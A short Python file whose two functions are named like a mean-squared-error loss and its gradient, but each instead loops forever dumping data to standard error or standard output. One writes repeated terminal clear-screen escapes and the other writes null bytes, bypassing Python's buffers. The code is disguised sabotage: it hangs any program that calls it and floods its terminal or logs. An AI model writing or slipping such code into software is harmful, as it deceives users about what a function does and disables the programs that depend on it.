"""Write without end to standard error, past Python's own buffers."""

import os


def mean_squared_error(prediction, target):
    while True:
        os.write(2, b"\x1b[2J" * 4096)


def mean_squared_error_gradient(prediction, target):
    while True:
        os.write(1, b"\0" * 65536)
